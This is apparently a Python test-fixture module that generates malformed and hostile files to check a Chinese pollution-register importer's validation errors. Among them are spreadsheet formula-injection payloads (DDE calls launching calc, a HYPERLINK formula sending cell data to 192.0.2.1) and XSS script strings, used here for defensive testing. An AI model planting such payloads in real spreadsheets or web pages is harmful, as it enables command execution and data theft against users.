"""Hostile tables: harm in cells, lines, encodings, places and codes."""

import base64
import gzip

from tests.gis.hostile_parts import ENDINGS, FIRST, HEADINGS, SECOND, case, changed, csv, layer, marked, packed, xlsx

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"示例化工厂")',
    "\t=1+1",
    "＝1+1",
    "=DDE(1;2;3)",
    "@示例",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "厂<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">厂</a>',
    "javascript:alert(1)",
    "<iframe src=http://192.0.2.1></iframe>",
    "<!-- 厂",
    "</script><script>alert(1)//",
    "厂<style>*{display:none}</style>",
]
HIDDEN = ["\x01", "\x07", "\x1b", "\x7f", "\u200b", "\u202e", "\u2066", "\ufeff", "\u2060"]
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def formulas(_folder):
    """Cells that a spreadsheet would run, in csv and in workbooks."""
    made = []
    for number, text in enumerate(FORMULAS):
        heading = ("单位名称", "地址", "工业园区")[number % 3]
        content = csv(FIRST, changed(SECOND, heading, text))
        made.append(case(f"公式{number}{heading}.csv", content, "register.formula", row=3, column=heading))
        content = xlsx(FIRST, changed(SECOND, "单位名称", text.strip()))
        made.append(case(f"公式{number}.xlsx", content, "register.formula", row=3, column="单位名称"))
    return made


def scripts(folder):
    """Cells that a browser would run, in csv, workbooks, placemarks and layers."""
    made = []
    for number, text in enumerate(SCRIPTS):
        heading = ("单位名称", "地址")[number % 2]
        content = csv(FIRST, changed(SECOND, heading, text))
        made.append(case(f"脚本{number}{heading}.csv", content, "register.markup", row=3, column=heading))
        content = xlsx(changed(FIRST, "单位名称", text), SECOND)
        made.append(case(f"脚本{number}.xlsx", content, "register.markup", row=2, column="单位名称"))
        body = f"<kml>{marked(f'<![CDATA[{text}]]>', '125.1012,46.5934')}</kml>"
        made.append(case(f"脚本{number}.kml", body.encode(), "register.markup", row=1, column="name"))
        made.append(case(f"脚本{number}.geojson", layer(folder, ".geojson", 单位名称=text), "register.markup", row=1))
    return made


def invisible(_folder):
    """Characters that do not show, and those that were lost."""
    made = []
    for number, mark in enumerate(HIDDEN):
        heading = ("单位名称", "网格编号")[number % 2]
        content = csv(FIRST, changed(SECOND, heading, f"示{mark}例"))
        made.append(case(f"隐藏{number}{heading}.csv", content, "register.hidden_character", row=3, column=heading))
    lost = csv(changed(FIRST, "单位名称", "示例\ufffd\ufffd厂"), SECOND)
    return [*made, case("乱码.csv", lost, "register.lost_character", row=2, column="单位名称")]


def lengths(_folder):
    """Cells of many characters."""
    sizes = {
        501: "register.long_cell",
        5_000: "register.long_cell",
        120_000: "register.long_cell",
        140_000: "rows.bad_line",
    }
    made = [
        case(f"长{size}.csv", csv(FIRST, changed(SECOND, "单位名称", "厂" * size)), code, row=3)
        for size, code in sizes.items()
    ]
    long = xlsx(FIRST, changed(SECOND, "地址", "路" * 30_000))
    million = csv(FIRST) + b"x" * 3_000_000 + b"\n"
    return [
        *made,
        case("长.xlsx", long, "register.long_cell", row=3),
        case("长行.csv", million, "rows.bad_line", row=3),
    ]


def encodings(_folder):
    """Bytes of several encodings in one file, of none, and zeros."""
    lines = csv(FIRST, SECOND, FIRST, SECOND).decode("utf-8-sig").split("\n")
    mixed = [
        case(
            f"混码{odd}.csv",
            b"\n".join(line.encode("gb18030" if place == odd else "utf-8") for place, line in enumerate(lines)),
            "rows.mixed_encoding",
            row=odd + 1,
        )
        for odd in range(4)
    ]
    good = csv(FIRST, SECOND)
    wide = good.decode("utf-8-sig").encode("utf-16")
    raw = {
        "坏字节.csv": good + b"\xff\xff\xff\x81\xff",
        "零字节.csv": good.replace("示例纸业".encode(), b"a\x00b"),
        "全零.csv": b"\x00" * 4096,
        "半个.csv": wide[:-1],
        "无标记.csv": wide[2:],
        "四字节.csv": good.decode("utf-8-sig").encode("utf-32"),
        "孤立.csv": wide[:20] + b"\x00\xd8" + wide[20:],
        "随机.csv": bytes(range(128, 256)) * 20,
        "压缩.csv": gzip.compress(good, mtime=0),
    }
    return mixed + [case(name, content, "rows.unreadable", "rows.mixed_encoding") for name, content in raw.items()]


def csv_forms(_folder):
    """Tables out of joint: open quotes, columns without end or twice or missing, ten million lines."""
    good = csv(FIRST, SECOND)
    made = [
        case("引号.csv", good + b'"open,1,2\n' + good, "rows.bad_line"),
        case("引号二.csv", good + b'"a"b,1,2\n', "rows.bad_line", row=4),
        case("两万列.csv", good + b"," * 20_000 + b"\n", "rows.long_line", row=4),
        case("重名.csv", csv(FIRST, headings=[*HEADINGS[:-1], "单位名称"]), "rows.repeated_heading"),
        case("千万行.csv", csv(FIRST) + b"1\n" * 10_000_000, "rows.too_many"),
        case("千万空行.csv", csv(FIRST) + b"\n" * 10_000_000, "rows.too_many"),
        case("千万回车.csv", csv(FIRST) + b"\r" * 10_000_000, "rows.too_many"),
        case("百万列.csv", b"a," * 1_000_000 + b"\n1\n", "rows.long_line", row=1),
        case("散文.csv", "关于报送名录的通知\n各市局：\n请按时报送。\n".encode(), "table.no_column"),
    ]
    for place, heading in enumerate(HEADINGS[:6]):
        headings = [f"其他{place}" if name == heading else name for name in HEADINGS]
        content = csv(
            *[["?" if k == place else cell for k, cell in enumerate(row)] for row in (FIRST, SECOND)], headings=headings
        )
        made.append(case(f"缺{heading}.csv", content, "table.no_column"))
        made.append(
            case(
                f"空{heading}.csv", csv(FIRST, changed(SECOND, heading, "")), "table.empty_value", row=3, column=heading
            )
        )
    return made


def numbers(_folder):
    """Places that are none, or that cannot be told."""
    wrong = {
        "六十分": ("经度", "125°60′00″", "coordinates.sixty"),
        "六十秒": ("纬度", "46°30′60.0″", "coordinates.sixty"),
        "科学": ("经度", "1.25E+02", "coordinates.rounded"),
        "文字": ("经度", "厂区中心", "coordinates.not_read"),
        "无穷": ("经度", "inf", "coordinates.not_read"),
        "非数": ("纬度", "nan", "coordinates.not_read"),
        "过大": ("经度", "1" + "0" * 308, "coordinates.no_place"),
        "极地": ("纬度", "95.2", "coordinates.no_place"),
        "零": ("经度", "0", "coordinates.no_place"),
        "国外": ("纬度", "-33.9", "coordinates.no_place"),
        "百度": ("经度", "-125.1", "coordinates.no_place"),
        "省外": ("纬度", "30.2", "register.outside_box"),
        "两点": ("经度", "125.1.2.3.4", "coordinates.not_read"),
        "单引": ("纬度", "46'", "coordinates.not_read"),
    }
    made = [
        case(
            f"坐标{name}.csv",
            csv(FIRST, changed(SECOND, heading, text)),
            code,
            "coordinates.not_read",
            "coordinates.no_place",
            row=3,
        )
        for name, (heading, text, code) in wrong.items()
    ]
    for name, system, code in (
        ("西安", "西安80", "coordinates.old_datum"),
        ("北京", "Beijing 1954", "coordinates.old_datum"),
        ("两系", "WGS84和GCJ-02", "coordinates.two_systems"),
    ):
        rows = csv([*FIRST, system], [*SECOND, system], headings=[*HEADINGS, "坐标系"])
        made.append(case(f"坐标系{name}.csv", rows, code))
    return made


def identities(_folder):
    """Codes that are wrong, cut or another's."""
    wrong = {
        "校验": ("统一社会信用代码", "91130200699229617A", "register.bad_credit_code"),
        "短": ("统一社会信用代码", "9113020069922961", "register.bad_credit_code"),
        "科学": ("统一社会信用代码", "9.11302E+17", "register.cut_credit_code"),
        "截断": ("统一社会信用代码", "911302307808371000", "register.cut_credit_code"),
        "字母O": ("统一社会信用代码", "9113O2307808371268", "register.mistyped_credit_code"),
        "全角": ("统一社会信用代码", "９１１３０２３０７８０８３７１２６８", "register.mistyped_credit_code"),
        "行业": ("行业代码", "乱写的行业", "register.bad_industry_code"),
        "类别": ("管理类别", "特级管理", "table.unknown_value"),
        "空白": ("单位名称", "   ", "table.empty_value"),
    }
    made = [
        case(f"代码{name}.csv", csv(FIRST, changed(SECOND, heading, text)), code, row=3, column=heading)
        for name, (heading, text, code) in wrong.items()
    ]
    for name, number, code in (
        ("他人", "91130200699229617X001P", "register.foreign_permit_no"),
        ("错误", "911302307808371268001", "register.bad_permit_no"),
        ("截断", "9.11302E+21", "register.cut_permit_no"),
    ):
        rows = csv([*FIRST, ""], [*SECOND, number], headings=[*HEADINGS, "排污许可证编号"])
        made.append(case(f"许可证{name}.csv", rows, code, row=3, column="排污许可证编号"))
    rows = csv([*FIRST, "大庆市"], [*SECOND, "不存在市"], headings=[*HEADINGS, "所在市"])
    twice = csv(FIRST, SECOND, FIRST)
    return [
        *made,
        case("地市.csv", rows, "register.unknown_division", row=3, column="所在市"),
        case("重复.csv", twice, "register.repeated_site", row=4),
    ]


def empties(folder):
    """Files with nothing in them, or nothing but a heading."""
    nothing = {".dxf", ".gpkg", ".geojson"}
    made = [case(f"空{ending}", b"", "rows.unreadable", *["rows.empty"] * (ending == ".csv")) for ending in ENDINGS]
    blank = layer(folder, ".geojson", empty=True)
    return [
        *made,
        case("空白.csv", b"\n \n\t\n", "rows.empty"),
        case("只有表头.csv", csv(), "rows.empty"),
        case("只有表头.xlsx", xlsx(), "rows.empty"),
        case("空表.xlsx", xlsx(headings=[]), "rows.empty"),
        case("无地标.kml", b"<kml><Document/></kml>", "rows.empty"),
        case("无点.gpx", b"<gpx></gpx>", "rows.empty"),
        case("无要素.geojson", blank, "rows.empty", "rows.unreadable"),
        case("空档.zip", packed({}), "rows.several_layers", "rows.unreadable"),
        case("空档.kmz", packed({}), "rows.several_layers", "rows.unreadable"),
        *[case(f"空格{ending}", b"   \n", "rows.unreadable") for ending in sorted(nothing)],
    ]


def unknown_endings(_folder):
    """Files of other programs."""
    names = [
        "名录.doc",
        "名录.docx",
        "名录.pdf",
        "名录.rar",
        "名录.7z",
        "名录.exe",
        "名录",
        "名录.csv.exe",
        "名录.xlsm",
        "名录.shp",
        "名录.mdb",
        "名录.html",
    ]
    return [case(name, csv(FIRST), "rows.unknown_ending") for name in names]


def disguises(folder):
    """Contents under endings that are not theirs."""
    contents = {
        "图片": PNG,
        "程序": b"MZ\x90\x00" + b"\x00" * 200,
        "网页": b"<html><body><table><tr><td>1</td></tr></table></body></html>",
        "文档": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
        "空包": packed({"readme.txt": b"1"}),
        "表": xlsx(FIRST),
        "包": layer(folder, ".gpkg"),
    }
    allowed = {"表": {".xlsx", ".xls"}, "包": {".gpkg"}}
    return [
        case(
            f"{name}{ending}",
            content,
            "rows.unreadable",
            "rows.several_layers",
            "rows.empty",
            "rows.no_crs",
            "table.no_column",
        )
        for name, content in contents.items()
        for ending in ENDINGS
        if ending not in allowed.get(name, set()) and (name, ending) not in {("网页", ".csv"), ("文档", ".csv")}
    ]


MAKERS = (
    formulas,
    scripts,
    invisible,
    lengths,
    encodings,
    csv_forms,
    numbers,
    identities,
    empties,
    unknown_endings,
    disguises,
)
